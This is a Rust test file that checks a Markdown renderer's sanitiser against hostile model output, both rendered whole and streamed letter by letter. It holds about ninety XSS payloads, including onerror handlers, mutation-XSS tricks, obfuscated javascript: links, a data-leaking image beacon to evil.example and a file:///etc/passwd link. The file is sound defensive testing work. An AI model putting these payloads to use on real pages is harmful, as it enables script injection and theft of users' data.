//! A model's Markdown is hostile input: rendered whole or letter by letter, its HTML has only elements and attributes
//! of the allow-list.
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a failed test may panic")]

use hearth_text::markdown::{StreamRenderer, render};
use uuid::Uuid;

const TAGS: [&str; 52] = [
    "p",
    "br",
    "hr",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "span",
    "sup",
    "math",
    "mrow",
    "mi",
    "mo",
    "mn",
    "ms",
    "mtext",
    "mspace",
    "mfrac",
    "msqrt",
    "mroot",
    "mstyle",
    "mpadded",
    "mphantom",
    "msub",
    "msup",
    "msubsup",
    "munder",
    "mover",
    "munderover",
    "mmultiscripts",
    "mtable",
    "mtr",
    "mtd",
];

/// Markdown that has run scripts or fetched something elsewhere.
fn hostile() -> Vec<String> {
    let mut cases: Vec<String> = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?php <img src=x onerror=alert(1)> ?>",
        "<x\u{0}y><img src=x onerror=alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A&#x61;vascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](%6Aavascript:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x](//evil.example)",
        "[x](\\\\evil.example)",
        "[x](/people)",
        "[x](?next=//evil.example)",
        "[x](#m-1)",
        "[x](https://a.example \"onmouseover=alert(1) \\\" onmouseover=alert(1) x=\\\"\")",
        "[x](https://a.example/\"onmouseover=\"alert(1))",
        "[x](<https://a.example/\"><img src=x onerror=alert(1)>)",
        "<javascript:alert(1)>",
        "<https://a.example/\"onmouseover=alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x][r]\n\n[r]: https://a.example '\"><img src=x onerror=alert(1)>'",
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example",
        "![![x](https://evil.example/1)](https://evil.example/2)",
        "[![x](javascript:alert(1))](javascript:alert(2))",
        "![\"onerror=alert(1)](x)",
        "```\"><img src=x onerror=alert(1)>\nx\n```",
        "``` x\" onmouseover=\"alert(1)\nx\n```",
        "```rust class=evil style=x\nx\n```",
        "```\n</code></pre><img src=x onerror=alert(1)>\n```",
        "    </code></pre><script>alert(1)</script>",
        "`</code><script>alert(1)</script>`",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| `<script>` | ![x](https://evil.example) |",
        "- [x] <input onfocus=alert(1) autofocus>\n- [ ] ![x](https://evil.example)",
        "<div class=scroll tabindex=0 onclick=alert(1)>x</div>",
        "<p style=\"background:url(https://evil.example)\">x</p>",
        "1. <li value=1 onclick=alert(1)>",
        "<b>*<b>*<i>_</b>_</i><table><tr>x<td><plaintext>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<title></title><img src=x onerror=alert(1)>",
        "\u{feff}<script>alert(1)</script>",
        "<scr\u{0}ipt>alert(1)</script>",
        "<ＳＣＲＩＰＴ>alert(1)</ＳＣＲＩＰＴ>",
        "\r\n<img\rsrc=x\ronerror=alert(1)>",
        "$\\text{<img src=x onerror=alert(1)>}$",
        "$<img src=x onerror=alert(1)>$",
        "$$\\href{javascript:alert(1)}{x}$$",
        "$$\\url{javascript:alert(1)}$$",
        "$\\style{position:fixed}{x} \\class{evil}{x} \\id{composer-text}{x}$",
        "\\(\\unicode{x3c}img src=x onerror=alert(1)\\unicode{x3e}\\)",
        "\\[\\begin{align} a \\tag{<img src=x onerror=alert(1)>} \\label{x\" onmouseover=\"alert(1)} \\end{align}\\]",
        "$\\hspace{999em} \\kern{-999em} \\rule{999em}{999em}$",
        "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
        "$\\color{red;background:url(https://evil.example)}{x}$",
        "$\\operatorname{<svg onload=alert(1)>}$",
        "x[^\"onmouseover=alert(1)]\n\n[^\"onmouseover=alert(1)]: y",
        "x[^<img>]\n\n[^<img>]: <img src=x onerror=alert(1)>",
        "x[^1]\n\n[^1]: [y](javascript:alert(1)) <script>alert(1)</script>",
        "https://a.example/\"onmouseover=alert(1)//",
        "https://a.example/<img src=x onerror=alert(1)>",
        "<a id=m-1 href=#m-1>x</a> <a href=\"#fn-00000000000000000000000000000000-1\">x</a>",
        "```html\n<img src=x onerror=alert(1)></span></code>\n```",
        "```js\n`${alert(1)}</script>`\n```",
        "```math\n<img src=x onerror=alert(1)>\n```",
    ]
    .map(str::to_owned)
    .into();
    // Each of them also inside other blocks.
    for frame in ["> ", "- ", "1. ", "# ", "**", "| a |\n|---|\n| "] {
        let inside: Vec<_> = cases
            .iter()
            .take(91)
            .map(|case| format!("{frame}{case}"))
            .collect();
        cases.extend(inside);
    }
    cases
}

#[test]
fn html_of_hostile_markdown_has_only_allowed_elements() {
    for case in hostile() {
        check(&render(&case, Uuid::nil()), &case);
    }
}

#[test]
fn html_of_hostile_markdown_has_only_allowed_elements_at_every_letter_of_a_stream() {
    for case in hostile() {
        let mut renderer = StreamRenderer::default();
        for letter in case.chars() {
            renderer.push(letter.encode_utf8(&mut [0; 4]));
            renderer.advance();
            check(&(renderer.blocks().concat() + &renderer.tail()), &case);
        }
    }
}

/// Every tag is of the list, every attribute harmless, every link leads to a page elsewhere or to a letter.
fn check(html: &str, case: &str) {
    for tag in html.split('<').skip(1) {
        let Some((tag, _)) = tag.split_once('>') else {
            panic!("{case:?}: an open end in {html}")
        };
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap();
        if name == "input" {
            assert!(tag.contains("type=\"checkbox\""), "{case:?}: {html}");
        } else {
            assert!(TAGS.contains(&name), "{case:?}: <{tag}> in {html}");
        }
        for (attribute, value) in attributes(tag) {
            match attribute {
                "href" => assert!(
                    ["https://", "http://", "mailto:"]
                        .iter()
                        .any(|scheme| value.starts_with(scheme))
                        || is_footnote(value.trim_start_matches('#')),
                    "{case:?}: {value} in {html}"
                ),
                "id" => assert!(is_footnote(value), "{case:?}: {value} in {html}"),
                "rel" => assert_eq!(value, "noopener noreferrer nofollow", "{case:?}: {html}"),
                "target" => assert_eq!(value, "_blank", "{case:?}: {html}"),
                "dir" => assert!(["auto", "ltr"].contains(&value), "{case:?}: {html}"),
                "lang" => assert!(["zh", "ja", "ko"].contains(&value), "{case:?}: {html}"),
                "class" => assert!(value.split(' ').all(is_class), "{case:?}: {value} in {html}"),
                "width" | "lspace" | "rspace" | "minsize" | "maxsize" | "linethickness" => {
                    assert!(
                        value.len() < 9 && !value.starts_with('-'),
                        "{case:?}: {value} in {html}"
                    );
                }
                "title" | "aria-label" | "start" | "data-language" | "tabindex" | "type" | "checked"
                | "disabled" => {}
                "display" | "displaystyle" | "scriptlevel" | "mathvariant" | "stretchy" | "accent"
                | "form" | "fence" | "separator" | "largeop" | "movablelimits" | "symmetric"
                | "columnspan" => {}
                other => panic!("{case:?}: {other} in {html}"),
            }
        }
    }
}

/// Ours, of the message that the test renders.
fn is_footnote(id: &str) -> bool {
    let page = "00000000000000000000000000000000";
    let number = ["fn-", "fnref-"]
        .iter()
        .find_map(|start| id.strip_prefix(start)?.strip_prefix(page)?.strip_prefix('-'));
    number.is_some_and(|number| number.parse::<u16>().is_ok())
}

/// Empty where the sanitiser took one away.
fn is_class(class: &str) -> bool {
    let columns = ["left", "right", "center", "close-left", "close-right", "far-left"];
    let lines = ["line-above", "line-left", "line-right"];
    let ours = [
        "",
        "scroll",
        "code",
        "code-head",
        "code-language",
        "note",
        "mention",
        "formula",
    ];
    class.starts_with("hl-") || columns.contains(&class) || lines.contains(&class) || ours.contains(&class)
}

/// The sanitiser writes every value in double quotes and escapes those inside.
fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut rest = tag
        .trim_start_matches('/')
        .split_once(' ')
        .map_or("", |(_, rest)| rest);
    let mut found = Vec::new();
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').expect("a value has an end");
        found.push((name.trim(), value));
        rest = after;
    }
    assert!(
        rest.trim().is_empty() || rest.trim() == "/",
        "attributes without a value: {tag}"
    );
    found
}

/// What a model that repeats itself writes until its window is full.
#[test]
fn endless_nesting_costs_no_more_than_as_much_text() {
    let opened = [
        "> ", "- ", "1. ", "> - ", "*a ", "[", "![", "**", "`", "<a ", "~~", "_a ", "|", "\\", "- [ ] ", ">",
        "#",
    ];
    let opened = opened.map(|opening| opening.repeat(20_000) + "x");
    let closed = [
        ("*a ", " a*"),
        ("**a ", " a**"),
        ("~~a ", " a~~"),
        ("![a", "](https://a.example)"),
        ("[a", "](b)"),
    ];
    let closed = closed.map(|(opening, closing)| opening.repeat(5_000) + "x" + &closing.repeat(5_000));
    for deep in opened.into_iter().chain(closed) {
        let html = render(&deep, Uuid::nil());
        let depth = html.split("</").next().unwrap().matches('<').count();
        assert!(depth < 100, "{deep:.20}: {depth} elements inside each other");
        check(&html, &deep[..20]);
    }
}
